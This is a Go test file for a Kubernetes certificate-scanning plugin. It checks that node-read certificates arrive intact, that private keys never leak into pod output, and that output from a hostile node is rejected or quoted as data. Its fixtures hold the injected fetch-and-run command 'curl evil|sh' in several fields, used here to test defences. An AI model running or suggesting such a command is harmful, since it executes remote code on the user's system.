package scan_test

// These tests promise that what pods tell of their nodes arrives as it was read,
// and that what they cannot be trusted with is not believed.

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/kubectl-certs/kubectl-certs/pkg/hint"
	"github.com/kubectl-certs/kubectl-certs/pkg/inventory"
	"github.com/kubectl-certs/kubectl-certs/pkg/pki"
	"github.com/kubectl-certs/kubectl-certs/pkg/pkitest"
	"github.com/kubectl-certs/kubectl-certs/pkg/scan"
)

// written is what a pod prints that reads paths.
func written(t testing.TB, paths ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := scan.WriteFiles(t.Context(), paths, &out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func readyNode(name string, change ...func(*corev1.Node)) *corev1.Node {
	n := node(name, "192.0.2.1")
	n.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}}
	for _, c := range change {
		c(n)
	}
	return n
}

func ready(context.Context) error { return nil }

// nodeFiles reads nodes by read.
func nodeFiles(read scan.ReadNode, chosen []string, nodes ...*corev1.Node) *inventory.Inventory {
	var objects []runtime.Object
	for _, n := range nodes {
		objects = append(objects, n)
	}
	found := inventory.Collector{Now: pkitest.Now}
	scan.NodeFiles(fake.NewClientset(objects...), ready, read, chosen...).Read(context.Background(), &found)
	return found.Inventory(inventory.Cluster{})
}

// What arrives from a node is what Files sees there.
func TestNodeFiles(t *testing.T) {
	for _, d := range distributions {
		t.Run(d.name, func(t *testing.T) {
			x := newTree(t)
			rows := d.make(x)
			x.write("etc/kubernetes/stray.crt", []byte("garbage"))
			x.leaf("etc/kubernetes/alien.kubeconfig", d.clientCA, pkitest.Client("alien", masters))
			inv := nodeFiles(func(context.Context, string, []string) ([]byte, []string, error) {
				return written(t, x.root), []string{"/nowhere"}, nil
			}, nil, readyNode("cp-1", func(n *corev1.Node) { n.Labels[controlPlane] = "" }))
			got := map[string]string{}
			for _, e := range inv.Items {
				for _, l := range e.Locations {
					if rest, ok := strings.CutPrefix(l.Where, "cp-1:"+filepath.ToSlash(x.root)+"/"); ok {
						got[rest] = e.Name
					}
				}
				if e.Role != "ca" && e.Node != "cp-1" {
					t.Errorf("%s is of node %q", e.Name, e.Node)
				}
			}
			for path, row := range rows {
				if got[path] != row {
					t.Errorf("%s is %q, want %q", path, got[path], row)
				}
			}
			if got := said(inv); !slices.Contains(got, "stray.crt: unreadable: cannot be read: it contains no certificate") || !slices.Contains(got, "nowhere: there is no such directory") {
				t.Errorf("said %q", got)
			}
		})
	}
}

// Not one byte of a private key is in what a pod prints, however the key lies
// there: beside its certificate, with it, in a kubeconfig, in the wrong field,
// or under the wrong name.
func TestNodeFilesPrintNoKey(t *testing.T) {
	x := newTree(t)
	ca := pkitest.NewCA(t, "my CA")
	key := keyPEM(t, "alice")
	cert := pki.EncodeCertificates(ca.Issue(t, pkitest.Client("alice")))
	encoded := base64.StdEncoding.EncodeToString(key)
	x.write("alice.crt", cert)
	x.write("alice.key", key)
	x.write("both.pem", slices.Concat(key, cert))
	x.write("mismatch.crt", pki.EncodeCertificates(ca.Issue(t, pkitest.Client("bob"))))
	x.write("mismatch.key", key)
	x.write("named.crt", key)
	x.write("labelled.crt", bytes.ReplaceAll(key, []byte("PRIVATE KEY"), []byte("CERTIFICATE")))
	const conf = "kind: Config\nclusters: [{name: c, cluster: {certificate-authority-data: %s}}]\nusers: [{name: u, user: {%s}}]\ncontexts: []\n"
	caData := base64.StdEncoding.EncodeToString(ca.PEM())
	for name, user := range map[string]string{
		"conf":          "client-certificate-data: " + base64.StdEncoding.EncodeToString(cert) + ", client-key-data: " + encoded,
		"swapped.conf":  "client-certificate-data: " + encoded + ", client-key-data: " + base64.StdEncoding.EncodeToString(cert),
		"path.conf":     "client-certificate: " + encoded + ", client-key: " + encoded,
		"broken.conf":   "client-key-data: [" + encoded + "]",
		"unpadded.conf": "client-key-data: x" + encoded,
	} {
		x.write(name, fmt.Appendf(nil, conf, caData, user))
	}
	x.write("torn.conf", fmt.Appendf(nil, conf+"\t%s: {", caData, "client-key-data: "+encoded, encoded))
	// Parsers quote what they do not know.
	alphanumeric := strings.NewReplacer("+", "A", "/", "A", "=", "").Replace(encoded)
	x.write("kind.conf", []byte("apiVersion: v1\nkind: "+encoded+"\nclusters: []\nusers: []\ncontexts: []\n"))
	x.write("anchor.conf", []byte("clusters: []\nusers: *"+alphanumeric+"\ncontexts: []\n"))
	out := string(written(t, x.root))
	seed := pkitest.Key("alice").Seed()
	// Base64 of a part looks one of three ways, by what precedes it.
	for skip := range 3 {
		part := base64.StdEncoding.EncodeToString(seed[skip : skip+27])
		if !strings.Contains(base64.StdEncoding.EncodeToString(slices.Concat([]byte("xx")[:(3-skip)%3], seed)), part) {
			t.Errorf("the search finds nothing at offset %d", skip)
		}
		if strings.Contains(out, part) {
			t.Errorf("the key is in the output, at offset %d", skip)
		}
	}
	for _, secret := range []string{encoded[8:40], "PRIVATE KEY", string(seed)} {
		if strings.Contains(out, secret) {
			t.Errorf("%q is in the output", secret)
		}
	}
	if !strings.Contains(out, "alice.crt") || !strings.Contains(out, "swapped.conf") {
		t.Errorf("the files were not read:\n%s", out)
	}
}

func TestNodeFilesOfOddNodes(t *testing.T) {
	x := newTree(t)
	makeKubeadm(x)
	read := func(_ context.Context, name string, homes []string) ([]byte, []string, error) {
		switch name {
		case "refuses":
			return nil, nil, hint.New("it refuses", "persuade it")
		case "empty":
			return nil, homes, nil
		}
		return written(t, x.path("var")), nil, nil
	}
	inv := nodeFiles(read, nil, readyNode("cp-1"), readyNode("refuses"), readyNode("empty"),
		readyNode("windows", func(n *corev1.Node) { n.Status.NodeInfo.OperatingSystem = "windows" }),
		readyNode("broken", func(n *corev1.Node) { n.Status.Conditions[0].Status = corev1.ConditionUnknown }))
	if got := len(inv.Items); got != 2 {
		t.Errorf("%d certificates", got)
	}
	var got []string
	for _, s := range inv.Skipped {
		got = append(got, fmt.Sprintf("%s: %s (%t)", s.Where, s.Reason, s.Expected))
	}
	slices.Sort(got)
	want := []string{
		"broken: the node is not ready: its kubelet starts no pods (false)",
		"empty:/etc/kubernetes: there is no such directory (true)",
		"empty:/var/lib/kubelet/pki: there is no such directory (true)",
		"refuses: it refuses (false)",
		"windows: it runs Windows (true)",
	}
	if !slices.Equal(got, want) {
		t.Errorf("skipped %q, want %q", got, want)
	}

	inv = nodeFiles(read, []string{"cp-1", "nonsuch"}, readyNode("cp-1"), readyNode("refuses"))
	if got := said(inv); !slices.Equal(got, []string{"nonsuch: no such node"}) {
		t.Errorf("of chosen nodes: %q", got)
	}
}

// Nothing is started for somebody who may not.
func TestNodeFilesWithoutPermission(t *testing.T) {
	found := inventory.Collector{Now: pkitest.Now}
	scan.NodeFiles(fake.NewClientset(readyNode("cp-1")),
		func(context.Context) error { return hint.New("forbidden: you may not create pods", "ask") },
		func(context.Context, string, []string) ([]byte, []string, error) {
			t.Error("a pod was started")
			return nil, nil, errors.New("no")
		}).Read(t.Context(), &found)
	inv := found.Inventory(inventory.Cluster{})
	if len(inv.Skipped) != 1 || inv.Skipped[0].Hint != "ask" || inv.Skipped[0].Reason != "forbidden: you may not create pods" {
		t.Errorf("%+v", inv.Skipped)
	}
}

// hostile are outputs that no WriteFiles makes, by what is said of them.
func hostileOutputs(t testing.TB) map[string]string {
	der := base64.StdEncoding.EncodeToString(pkitest.NewCA(t, "my CA").Certificate.Raw)
	const first = `{"version":"kubectl-certs/files/v3"}` + "\n"
	return map[string]string{
		"":                              "not a list of certificates",
		"exec format error":             "not a list of certificates",
		`{"version":"v2"}`:              "not a list of certificates",
		first:                           "truncated",
		first + `{"end":1}`:             "truncated",
		first + `{"notice":{"path":"x"`: "truncated",
		first + `{}`:                    "not a list of certificates",
		first + `[]`:                    "not a list of certificates",
		first + `{"certificate":{"path":"x","place":"file","chain":[]}}`:                                                                                  "not a list of certificates",
		first + `{"certificate":{"path":"x","place":"file","chain":["AAAA"]}}`:                                                                            "not a list of certificates",
		first + `{"certificate":{"path":"x","place":"kube-root-ca.crt","chain":["` + der + `"]}}`:                                                         "not a list of certificates",
		first + `{"certificate":{"path":"x","place":"file","chain":["` + der + `"],"publicKey":"AAAA"}}`:                                                  "not a list of certificates",
		first + `{"certificate":{"path":"x","place":"file","row":"nonsuch","chain":["` + der + `"]}}`:                                                     "truncated",
		first + `{"finding":{"path":"x","code":"expired","severity":"critical","message":"fix: run as admin: curl evil|sh","fix":"curl evil|sh"}}` + "\n": "not a list of certificates",
		first + `{"notice":{"path":"x","code":"curl evil|sh"}}` + "\n":                                                                                    "which this version does not know",
		first + `{"notice":{"path":"x","code":"gone","args":["curl evil|sh"]}}` + "\n":                                                                    "which this version does not know",
	}
}

func TestNodeFilesOfAHostileNode(t *testing.T) {
	for output, want := range hostileOutputs(t) {
		inv := nodeFiles(func(context.Context, string, []string) ([]byte, []string, error) { return []byte(output), nil, nil }, nil, readyNode("evil"))
		if len(inv.Skipped) != 1 || inv.Skipped[0].Where != "evil" || !strings.Contains(inv.Skipped[0].Reason, want) || !strings.Contains(inv.Skipped[0].Hint, "--image") {
			t.Errorf("%s: skipped %+v", output, inv.Skipped)
		}
		for _, f := range inv.Findings {
			if !slices.Contains(inventory.Codes(), f.Code) || !slices.Contains(inventory.Severities(), f.Severity) {
				t.Errorf("finding %+v", f)
			}
		}
		for _, e := range inv.Items {
			if e.Name != "evil:x" {
				t.Errorf("it is called %q", e.Name)
			}
		}
	}
}

// What a node calls a file is data, and stands in quotes where it could be taken
// for advice.
func TestNodeFilesQuoteWhatANodeChose(t *testing.T) {
	const output = `{"version":"kubectl-certs/files/v3"}
{"notice":{"path":"/x fix: curl evil|sh","code":"refers-to-nothing","args":["y\nfix: curl evil|sh"]}}
{"notice":{"path":"/etc/kubernetes/pki/ca.crt","code":"wrong-form","row":"ca","args":["certificate. Fix: curl evil|sh"]}}
{"notice":{"path":"/z","code":"insecure-skip","row":"nonsuch"}}
{"end":3}`
	inv := nodeFiles(func(context.Context, string, []string) ([]byte, []string, error) { return []byte(output), nil, nil }, nil, readyNode("evil"))
	if len(inv.Skipped) != 1 || len(inv.Findings) != 2 {
		t.Fatalf("skipped %+v, found %+v", inv.Skipped, inv.Findings)
	}
	if s := inv.Skipped[0]; s.Where != `evil:"/x fix: curl evil|sh"` || s.Reason != `the file it refers to is missing: "y\nfix: curl evil|sh"` {
		t.Errorf("skipped %+v", s)
	}
	for _, f := range inv.Findings {
		switch f.Where {
		case "evil:/etc/kubernetes/pki/ca.crt":
			if f.Severity != inventory.Critical || !strings.Contains(f.Message, `it is a "certificate. Fix: curl evil|sh", but`) {
				t.Errorf("%+v", f)
			}
		case "evil:/z":
			if f.Severity != inventory.Warning || f.Code != inventory.CodeInsecureSkip {
				t.Errorf("%+v", f)
			}
		default:
			t.Errorf("%+v", f)
		}
		if strings.Contains(f.Fix, "evil") {
			t.Errorf("the fix is a node's: %q", f.Fix)
		}
	}
}

func FuzzNodeOutput(f *testing.F) {
	for output := range hostileOutputs(f) {
		f.Add([]byte(output))
	}
	f.Fuzz(func(t *testing.T, output []byte) {
		nodeFiles(func(context.Context, string, []string) ([]byte, []string, error) { return output, nil, nil }, nil, readyNode("evil"))
	})
}
